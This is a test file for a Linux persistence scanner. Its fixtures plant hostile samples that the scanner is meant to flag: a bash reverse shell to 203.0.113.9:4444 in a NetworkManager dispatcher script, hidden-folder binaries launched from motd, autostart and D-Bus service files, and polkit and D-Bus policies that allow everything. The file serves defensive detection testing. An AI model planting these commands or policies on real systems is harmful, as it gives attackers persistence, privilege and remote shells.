import { expect, it } from 'vitest';
import { at, blameOf, codesOf, scanDebian, script } from './packaged.ts';

it('blames a script of the message of the day that starts a hidden program, and not the one of the system', async () => {
  const outcome = await scanDebian(
    { '/etc/update-motd.d/10-uname': script('uname -snrvm') },
    {
      '/etc/update-motd.d/98-stats': script('(nohup /tmp/.font-unix2/x >/dev/null 2>&1 &)'),
      '/etc/update-motd.d/20-welcome': script('echo "Welcome to web-1"'),
    },
  );
  expect(at(outcome, '/etc/update-motd.d/98-stats')).toMatchObject({
    verdict: 'malicious',
    attack: ['T1037'],
    places: [{ line: 2 }],
    subject: { kind: 'file', role: 'session-file' },
  });
  expect(blameOf(outcome, '/etc/update-motd.d/20-welcome')).toBe('unknown');
  expect(blameOf(outcome, '/etc/update-motd.d/10-uname')).toBe('not mentioned');
});

it('blames what a user’s desktop starts from a hidden folder, at its Exec line, and not a chat program', async () => {
  const entry = (exec: string): string => `[Desktop Entry]\nType=Application\nName=x\nExec=${exec}\n`;
  const outcome = await scanDebian(
    { '/etc/xdg/autostart/stock.desktop': entry('/usr/bin/stock') },
    {
      '/home/ann/.config/autostart/pulse.desktop': entry('/dev/shm/.pulse/pulse %U'),
      '/home/ann/.config/autostart/chat.desktop': entry('/opt/chat/chat --hidden'),
    },
  );
  expect(at(outcome, '/home/ann/.config/autostart/pulse.desktop')).toMatchObject({
    verdict: 'malicious',
    attack: ['T1547.013'],
    owner: 'ann',
    places: [{ line: 4 }],
  });
  expect(blameOf(outcome, '/home/ann/.config/autostart/chat.desktop')).toBe('benign');
  expect(blameOf(outcome, '/etc/xdg/autostart/stock.desktop')).toBe('not mentioned');
});

it('blames a service of the bus that starts a program from /var/tmp, and not that of an agent', async () => {
  const service = (exec: string): string => `[D-BUS Service]\nName=org.example.X\nExec=${exec}\nUser=root\n`;
  const outcome = await scanDebian(
    {},
    {
      '/usr/share/dbus-1/system-services/org.x.conf.service': service('/var/tmp/.d/d'),
      '/usr/share/dbus-1/system-services/org.agent.service': service('/opt/agent/bin/agentd'),
    },
  );
  const bad = at(outcome, '/usr/share/dbus-1/system-services/org.x.conf.service');
  expect(bad).toMatchObject({ verdict: 'malicious', attack: ['T1543'], places: [{ line: 3 }] });
  expect(blameOf(outcome, '/usr/share/dbus-1/system-services/org.agent.service')).toBe('unknown');
});

it('suspects a policy of the bus that allows everything to all, and not one for a service', async () => {
  const policy = (allow: string): string =>
    `<busconfig>\n<!-- <policy context="default"><allow own="*"/> -->\n<policy context="default">\n  ${allow}\n</policy>\n</busconfig>\n`;
  const outcome = await scanDebian(
    {},
    {
      '/etc/dbus-1/system.d/all.conf': policy('<allow own="*"/>'),
      '/etc/dbus-1/system.d/one.conf': policy('<allow send_destination="org.example.One"/>'),
    },
  );
  const odd = at(outcome, '/etc/dbus-1/system.d/all.conf');
  expect(odd).toMatchObject({ verdict: 'suspicious', places: [{ line: 4 }] });
  expect(codesOf(odd)).toContain('allows-all');
  expect(blameOf(outcome, '/etc/dbus-1/system.d/one.conf')).toBe('benign');
});

it('suspects a polkit rule that says yes to everybody, in both forms, and not one with a condition', async () => {
  const outcome = await scanDebian(
    {},
    {
      '/etc/polkit-1/rules.d/00-a.rules':
        '// access\npolkit.addRule(function(action, subject) {\n    return polkit.Result.YES;\n});\n',
      '/etc/polkit-1/rules.d/10-wheel.rules':
        'polkit.addRule(function(action, subject) {\n  // return polkit.Result.YES;\n  if (subject.isInGroup("libvirt")) {\n    return polkit.Result.YES;\n  }\n});\n',
      '/var/lib/polkit-1/localauthority/50-local.d/a.pkla':
        '[All]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n',
    },
  );
  expect(at(outcome, '/etc/polkit-1/rules.d/00-a.rules')).toMatchObject({
    verdict: 'suspicious',
    attack: ['T1556'],
    places: [{ line: 3 }],
  });
  expect(blameOf(outcome, '/etc/polkit-1/rules.d/10-wheel.rules')).toBe('benign');
  expect(blameOf(outcome, '/var/lib/polkit-1/localauthority/50-local.d/a.pkla')).toBe('suspicious');
});

it('blames a script of the dispatcher that opens a shell to somewhere, and not one that sets the clock', async () => {
  const outcome = await scanDebian(
    { '/etc/NetworkManager/dispatcher.d/01-ifupdown': script('exit 0') },
    {
      '/etc/NetworkManager/dispatcher.d/pre-up.d/9-x': script('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
      '/etc/network/if-up.d/clock': script('systemctl restart chrony'),
    },
  );
  expect(at(outcome, '/etc/NetworkManager/dispatcher.d/pre-up.d/9-x')).toMatchObject({
    verdict: 'malicious',
    attack: ['T1546'],
    places: [{ line: 2 }],
  });
  expect(blameOf(outcome, '/etc/network/if-up.d/clock')).toBe('unknown');
  expect(blameOf(outcome, '/etc/NetworkManager/dispatcher.d/01-ifupdown')).toBe('not mentioned');
});
